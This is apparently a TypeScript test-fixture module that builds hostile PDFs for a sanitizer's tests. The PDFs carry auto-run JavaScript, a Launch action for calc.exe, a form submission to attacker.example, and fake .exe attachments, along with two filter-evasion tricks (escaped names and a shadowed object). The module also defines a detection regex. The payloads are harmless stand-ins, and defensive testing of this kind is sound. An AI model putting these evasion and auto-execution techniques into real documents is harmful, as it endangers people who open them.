import { PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFPage } from "pdf-lib";

// PDFs that act by themselves when opened, built with pdf-lib here (no binary fixture is committed):
// each variant puts one kind of action where readers look for it. Used by the inspection, sanitizer
// and export tests, and by the browser test of the warning.

export type Hostile =
  | "openActionJs"
  | "namesJs"
  | "pageAA"
  | "launchLink"
  | "submitForm"
  | "embeddedFiles"
  | "fileAttachment"
  | "fieldAA";

const JS = "app.alert('xin chao')";

async function base(label: string, pages = 1) {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 0; i < pages; i++) doc.addPage([300, 300]).drawText(`${label} ${i + 1}`, { x: 20, y: 250, size: 12, font });
  return doc;
}

const jsAction = (doc: PDFDocument) => doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(JS) });

function addAnnot(doc: PDFDocument, page: PDFPage, annot: PDFDict) {
  const ref = doc.context.register(annot);
  const annots = page.node.lookupMaybe(PDFName.of("Annots"), PDFArray) ?? doc.context.obj([]);
  annots.push(ref);
  page.node.set(PDFName.of("Annots"), annots);
}

const link = (doc: PDFDocument, action: Record<string, unknown>) =>
  doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [10, 10, 200, 40], Border: [0, 0, 0], A: action as never });

/** A one-page PDF (pages: n) carrying the given hostile content. */
export async function hostilePdf(kind: Hostile, opts: { objectStreams?: boolean; label?: string; pages?: number } = {}): Promise<Uint8Array> {
  const doc = await base(opts.label ?? kind, opts.pages);
  const page = doc.getPage(0);
  const ctx = doc.context;
  switch (kind) {
    case "openActionJs":
      doc.catalog.set(PDFName.of("OpenAction"), ctx.register(jsAction(doc)));
      break;
    case "namesJs": {
      const tree = ctx.obj({ Names: [PDFHexString.fromText("khoi-dong"), ctx.register(jsAction(doc))] });
      doc.catalog.set(PDFName.of("Names"), ctx.obj({ JavaScript: ctx.register(tree) }));
      break;
    }
    case "pageAA":
      page.node.set(PDFName.of("AA"), ctx.obj({ O: ctx.register(jsAction(doc)) }));
      break;
    case "launchLink":
      addAnnot(doc, page, link(doc, { S: "Launch", F: PDFString.of("C:\\Windows\\System32\\calc.exe"), NewWindow: true }));
      break;
    case "submitForm":
      addAnnot(doc, page, link(doc, { S: "SubmitForm", F: ctx.obj({ FS: "URL", F: PDFString.of("http://attacker.example/thu") }), Flags: 4 }));
      break;
    case "embeddedFiles":
      await doc.attach(new TextEncoder().encode("MZ not really a program"), "cai-dat.exe", { mimeType: "application/octet-stream" });
      break;
    case "fileAttachment": {
      const file = ctx.register(ctx.stream("MZ not really a program", { Type: "EmbeddedFile" }));
      const spec = ctx.obj({ Type: "Filespec", F: PDFString.of("cai-dat.exe"), UF: PDFHexString.fromText("cai-dat.exe"), EF: { F: file } });
      addAnnot(doc, page, ctx.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [10, 10, 30, 30], FS: spec, Name: "PushPin" }));
      break;
    }
    case "fieldAA": {
      const widget = ctx.obj({
        Type: "Annot", Subtype: "Widget", FT: "Tx", T: PDFString.of("ho_ten"), Rect: [10, 60, 200, 90], P: page.ref,
        AA: { K: ctx.register(jsAction(doc)), F: ctx.register(jsAction(doc)) },
      });
      const ref = ctx.register(widget);
      addAnnot(doc, page, ctx.lookup(ref, PDFDict));
      doc.catalog.set(PDFName.of("AcroForm"), ctx.obj({ Fields: [ref] }));
      break;
    }
  }
  return doc.save({ useObjectStreams: opts.objectStreams ?? false });
}

export const HOSTILE_KINDS: Hostile[] = ["openActionJs", "namesJs", "pageAA", "launchLink", "submitForm", "embeddedFiles", "fileAttachment", "fieldAA"];

/**
 * The same bytes with names spelt in #xx escapes, the form a filter matching "/JavaScript" misses.
 * Placeholders of the same length keep every offset of the cross-reference table right.
 */
export async function escapedJsPdf(): Promise<Uint8Array> {
  const doc = await base("escaped");
  const ctx = doc.context;
  // /J#61vaScript (13 bytes) and /#4aS (lower-case escape of J, 5 bytes; pdf-lib decodes only upper case).
  const action = ctx.obj({ Type: "Action", S: "QQQQQQQQQQQQ", QQQQ: PDFString.of(JS) });
  doc.catalog.set(PDFName.of("OpenAction"), ctx.register(action));
  const bytes = Buffer.from(await doc.save({ useObjectStreams: false }));
  const text = bytes.toString("latin1").replace("/QQQQQQQQQQQQ", "/J#61vaScript").replace("/QQQQ ", "/#4aS ");
  if (text.length !== bytes.length || text.includes("/QQQQ")) throw new Error("placeholder not replaced in place");
  return Buffer.from(text, "latin1");
}

/**
 * A hand-written PDF whose /OpenAction object 4 is a JavaScript action in the cross-reference
 * table, followed by a harmless object 4 that no reader uses (a parser reading objects in order,
 * like pdf-lib, keeps the last one): only the raw scan can see it.
 */
export function shadowedJsPdf(): Buffer {
  const objects: string[] = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    `<< /Type /Action /S /JavaScript /JS (${JS}) >>`,
  ];
  let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  out += "4 0 obj\n[3 0 R /Fit]\nendobj\n";
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

/** Names that must not be left in a PDF the system produces. */
export const ACTIVE_NAMES = /\/(JavaScript|JS|AA|OpenAction|Launch|SubmitForm|ImportData|GoToE|EmbeddedFiles?|EF|FileAttachment|XFA)(?=[\s/<>[\]()%]|$)/;

/** The object text of a PDF as pdf-lib reads it, written out again without object streams. */
export async function objectText(bytes: Uint8Array): Promise<string> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  return Buffer.from(await doc.save({ useObjectStreams: false })).toString("latin1");
}
